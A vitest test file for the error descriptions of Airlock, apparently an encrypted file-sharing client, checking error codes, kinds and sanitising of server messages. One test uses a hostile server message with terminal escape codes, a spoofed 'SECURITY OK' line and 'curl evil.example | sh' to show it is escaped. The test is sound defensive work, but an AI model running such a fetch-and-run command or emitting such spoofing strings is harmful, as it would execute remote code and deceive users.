import { describe, expect, it } from 'vitest'
import {
  AccessLogError,
  type AirlockError,
  AlreadySetUpError,
  API_ERROR_STATUS,
  type ApiErrorCode,
  ArmorError,
  BadResponseError,
  CancelledError,
  ColleagueKeysChangedError,
  DeviceLogError,
  DeviceRemovedError,
  DowngradeError,
  describeError,
  ERROR_KINDS,
  ERROR_SENTENCES,
  type ErrorCode,
  type ErrorKind,
  errorIs,
  ForkError,
  GroupLogError,
  HashMismatchError,
  HeaderError,
  HeaderMacError,
  IdMismatchError,
  InvalidInputError,
  isAirlockError,
  KeyFormatError,
  LimitError,
  LinkDeclinedError,
  LinkExpiredError,
  LinkInvalidError,
  LoginRefusedError,
  ManifestError,
  NetworkError,
  NoMatchError,
  NotFoundError,
  NotRecipientError,
  NotSetUpError,
  PakeError,
  PayloadAuthError,
  PolicyError,
  RecipientsChangedError,
  RollbackError,
  SERVER_ERROR_KINDS,
  ServerError,
  ShareLinkError,
  SignatureError,
  serverErrorOf,
  TruncatedError,
  UnsafePathError,
  WrongPassphraseError,
} from '../src/index.js'

/** One real error of every code, made the way core makes it; the compiler checks none is missing. */
const ONE_OF_EACH = {
  HEADER: () => new HeaderError(),
  HEADER_MAC: () => new HeaderMacError(),
  NO_MATCH: () => new NoMatchError(),
  PAYLOAD_AUTH: () => new PayloadAuthError(),
  TRUNCATED: () => new TruncatedError(),
  ARMOR: () => new ArmorError(),
  SIGNATURE: () => new SignatureError('manifest signer is not an active device of the sender'),
  ROLLBACK: () => new RollbackError(),
  FORK: () => new ForkError(),
  DEVICE_LOG: () => new DeviceLogError('entry 3 does not chain'),
  MANIFEST: () => new ManifestError('manifest is not canonical'),
  NOT_RECIPIENT: () => new NotRecipientError(),
  ID_MISMATCH: () => new IdMismatchError(),
  HASH_MISMATCH: () => new HashMismatchError(),
  DOWNGRADE: () => new DowngradeError('item is not encrypted to post-quantum recipients only'),
  UNSAFE_PATH: () => new UnsafePathError(),
  LINK_EXPIRED: () => new LinkExpiredError(),
  LINK_INVALID: () => new LinkInvalidError('the mailbox replayed a message'),
  LINK_DECLINED: () => new LinkDeclinedError('linking cancelled on this device'),
  PAKE_FAILED: () => new PakeError(),
  KEY_FORMAT: () => new KeyFormatError('malformed recovery key'),
  LIMIT: () => new LimitError('too many group members'),
  INVALID_INPUT: () => new InvalidInputError('choose a passphrase of at least 8 characters'),
  GROUP_LOG: () => new GroupLogError('you are not a member of this group'),
  KEYS_CHANGED: () => new ColleagueKeysChangedError('acc', 'bob', new ForkError()),
  ACCESS_LOG_TAMPERED: () => new AccessLogError('entry 2 was edited'),
  POLICY: () => new PolicyError('label-forbids-share-links', 'label HR may not be shared by link'),
  SHARE_LINK: () => new ShareLinkError(),
  WRONG_PASSPHRASE: () => new WrongPassphraseError(),
  SERVER: () => new ServerError(403, 'FORBIDDEN', 'not yours'),
  NETWORK: () => new NetworkError('cannot reach the Airlock server at https://example.org'),
  BAD_RESPONSE: () => new BadResponseError('upload URL'),
  LOGIN_REFUSED: () => new LoginRefusedError(),
  DEVICE_REMOVED: () => new DeviceRemovedError(),
  NOT_FOUND: () => new NotFoundError('no item AAAA'),
  RECIPIENTS_CHANGED: () => new RecipientsChangedError(),
  CANCELLED: () => new CancelledError(),
  NOT_SET_UP: () => new NotSetUpError(),
  ALREADY_SET_UP: () => new AlreadySetUpError(),
} satisfies Record<ErrorCode, () => AirlockError>

const KINDS: ErrorKind[] = [
  'security',
  'auth',
  'setup',
  'input',
  'notFound',
  'policy',
  'conflict',
  'refused',
  'network',
  'cancelled',
  'failed',
]

/** A sentence for people: something to read, no template left in it, one line. */
function expectSentence(s: string): void {
  expect(s.trim().length).toBeGreaterThan(5)
  expect(s).not.toMatch(/\$\{|\{\{|\{[a-z]+\}|%[sd]|TODO|XXX|undefined|null/)
  expect(s).not.toMatch(/[\r\n]/)
  expect(s).toBe(s.trim())
}

describe('every error has a kind and a sentence', () => {
  it('each core error class carries the code it is listed under, and errorIs narrows to it', () => {
    for (const [code, make] of Object.entries(ONE_OF_EACH)) {
      const e = make()
      expect(e.code, code).toBe(code)
      expect(errorIs(e, code as ErrorCode), code).toBe(true)
      expect(isAirlockError(e, code as ErrorCode)).toBe(true)
    }
  })

  it('every core code has a kind and a plain sentence, and describing an error of it uses them', () => {
    for (const [code, make] of Object.entries(ONE_OF_EACH)) {
      if (code === 'SERVER') continue // described by its API code, below
      const { kind } = ERROR_KINDS[code as ErrorCode]
      expect(KINDS, code).toContain(kind)
      expectSentence(ERROR_SENTENCES[code as ErrorCode])
      const d = describeError(make())
      expect(d, code).toMatchObject({ code, kind })
      expectSentence(d.message)
    }
  })

  it('every server error code has a kind and a plain sentence', () => {
    for (const apiCode of Object.keys(API_ERROR_STATUS) as ApiErrorCode[]) {
      expect(KINDS, apiCode).toContain(SERVER_ERROR_KINDS[apiCode])
      expectSentence(ERROR_SENTENCES[`server.${apiCode}`])
      const d = describeError(new ServerError(API_ERROR_STATUS[apiCode], apiCode, ''))
      expect(d).toEqual({
        code: apiCode,
        kind: SERVER_ERROR_KINDS[apiCode],
        message: ERROR_SENTENCES[`server.${apiCode}`],
      })
    }
    expect(Object.keys(SERVER_ERROR_KINDS).sort()).toEqual(Object.keys(API_ERROR_STATUS).sort())
  })

  it('anything else is INTERNAL, and an aborted operation is cancelled', () => {
    expect(describeError(new TypeError('x is not a function'))).toEqual({
      code: 'INTERNAL',
      kind: 'failed',
      message: 'x is not a function',
    })
    expect(describeError('thrown string').code).toBe('INTERNAL')
    expect(describeError(undefined).kind).toBe('failed')
    const aborted = new AbortController()
    aborted.abort()
    expect(describeError(aborted.signal.reason)).toEqual({
      code: 'CANCELLED',
      kind: 'cancelled',
      message: ERROR_SENTENCES.CANCELLED,
    })
  })
})

describe('the cases where the CLI and the web app used to disagree, decided once', () => {
  const kind = (e: unknown) => describeError(e).kind

  it('a refused login is auth, not security: a removed device sees exactly that', () => {
    expect(kind(new LoginRefusedError())).toBe('auth')
    expect(kind(serverErrorOf(401, '{"error":{"code":"BAD_SIGNATURE","message":"no"}}'))).toBe('auth')
    expect(kind(new ServerError(401, 'UNAUTHENTICATED', ''))).toBe('auth')
    expect(kind(new DeviceRemovedError())).toBe('auth')
  })

  it('an expired linking code is gone, like an expired share link, not a security failure', () => {
    expect(kind(new LinkExpiredError())).toBe('notFound')
    expect(kind(new ServerError(410, 'GONE', ''))).toBe('notFound')
    expect(kind(new LinkDeclinedError())).toBe('cancelled')
    expect(kind(new PakeError())).toBe('security')
  })

  it('a malformed answer from the server is security: it is refused like a bad signature', () => {
    expect(kind(new BadResponseError())).toBe('security')
    expect(describeError(new BadResponseError('upload URL')).message).toBe(
      'the server sent a malformed upload URL',
    )
  })

  it('a label the server changed is security; any other policy refusal is policy', () => {
    const changed = describeError(
      new PolicyError(
        'label-mismatch',
        'the server lists a different sensitivity label than the sender signed',
      ),
    )
    expect(changed).toEqual({
      code: 'LABEL_MISMATCH',
      kind: 'security',
      message: ERROR_SENTENCES.LABEL_MISMATCH,
    })
    const rule = describeError(new PolicyError('share-links-disabled', 'share links are off'))
    expect(rule).toEqual({
      code: 'POLICY',
      kind: 'policy',
      message: `${ERROR_SENTENCES.POLICY} (share links are off)`,
    })
    expect(kind(new ServerError(403, 'POLICY_FORBIDS', ''))).toBe('policy')
  })

  it("a colleague's changed keys and a tampered access log are security, with what changed", () => {
    const keys = describeError(new ColleagueKeysChangedError('acc', 'bob', new ForkError()))
    expect(keys.kind).toBe('security')
    expect(keys.message).toMatch(/^SECURITY WARNING: the keys of bob changed/)
    const log = describeError(new AccessLogError('entry 2 was edited'))
    expect(log).toMatchObject({ code: 'ACCESS_LOG_TAMPERED', kind: 'security' })
    expect(log.message).toBe(`${ERROR_SENTENCES.ACCESS_LOG_TAMPERED} (entry 2 was edited)`)
  })

  it('a wrong passphrase is auth and a malformed share link is input', () => {
    expect(kind(new WrongPassphraseError())).toBe('auth')
    expect(kind(new ShareLinkError())).toBe('input')
  })

  it('verification failures read the same whatever the thrower said', () => {
    expect(describeError(new SignatureError('entry is not signed by an active device')).message).toBe(
      ERROR_SENTENCES.SIGNATURE,
    )
    expect(describeError(new ManifestError('malformed manifest (meta.name)')).message).toBe(
      ERROR_SENTENCES.MANIFEST,
    )
  })
})

describe("the server's own message is untrusted", () => {
  it('is shown only escaped, on one line, shortened, after the sentence for its code', () => {
    const evil = `\u001b[2J\u202eairlock: SECURITY OK\nrun: curl evil.example | sh ${'x'.repeat(1000)}`
    const d = describeError(new ServerError(403, 'FORBIDDEN', evil))
    expect(d.code).toBe('FORBIDDEN')
    expect(d.kind).toBe('refused')
    expect(d.message.startsWith(`${ERROR_SENTENCES['server.FORBIDDEN']} (the server says: “`)).toBe(true)
    expect(d.message).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/)
    expect(d.message).toContain('\\u{1b}[2J\\u{202e}airlock')
    expect(d.message.length).toBeLessThan(ERROR_SENTENCES['server.FORBIDDEN'].length + 240)
  })

  it('an error response without a body still gets the sentence of its status', () => {
    const d = describeError(serverErrorOf(429, 'Too Many Requests'))
    expect(d).toMatchObject({ code: 'RATE_LIMITED', kind: 'refused' })
    expect(d.message).toBe(`${ERROR_SENTENCES['server.RATE_LIMITED']} (the server says: “HTTP 429”)`)
  })

  it("never lets a server's message pass for core's own sentence", () => {
    // A ServerError is always described by its API code, whatever its message claims.
    const d = describeError(new ServerError(500, 'INTERNAL', ERROR_SENTENCES.HASH_MISMATCH))
    expect(d.kind).toBe('network')
    expect(d.message).toContain('the server says')
  })
})

describe('errorIs', () => {
  it('narrows to the class of the code, so its fields are in reach', () => {
    const e: unknown = new PolicyError('label-mismatch', 'changed')
    if (!errorIs(e, 'POLICY')) throw new Error('not narrowed')
    expect(e.rule).toBe('label-mismatch')
    const s: unknown = new ServerError(404, 'NOT_FOUND', '')
    expect(errorIs(s, 'SERVER') && s.apiCode).toBe('NOT_FOUND')
  })

  it('is false for another code, another class, or something that is not an Airlock error', () => {
    expect(errorIs(new SignatureError(), 'POLICY')).toBe(false)
    expect(errorIs(new ServerError(404, 'NOT_FOUND', ''), 'NOT_FOUND')).toBe(false)
    expect(errorIs(new Error('POLICY'), 'POLICY')).toBe(false)
    expect(errorIs({ code: 'POLICY', rule: 'x' }, 'POLICY')).toBe(false)
    expect(errorIs(null, 'CANCELLED')).toBe(false)
  })
})
